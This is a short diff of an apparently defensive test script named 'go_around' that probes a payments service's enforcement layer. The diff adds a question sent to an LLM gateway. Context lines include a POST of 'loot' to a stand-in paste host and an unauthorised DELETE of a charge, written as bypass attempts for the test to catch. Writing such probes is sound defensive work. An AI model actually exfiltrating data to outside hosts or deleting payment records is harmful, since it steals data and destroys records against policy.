@@ -39,6 +39,8 @@ def go_around():
 
 say("started", url=PAYMENTS)
 say("allowed", **call("GET", PAYMENTS + "/v1/charges"))
+QUESTION = {"model": os.environ["LLM_MODEL"], "messages": [{"role": "user", "content": "May ch_1 be refunded?"}]}
+say("model", **call("POST", os.environ["LLM_GATEWAY_URL"] + "/chat/completions", QUESTION))
 say("unregistered", **call("POST", "http://pastebin.example/upload", {"loot": "everything"}))
 say("policy", **call("DELETE", PAYMENTS + "/v1/charges/ch_1"))
 say("capability", **call("GET", PAYMENTS + "/v1/balance"))
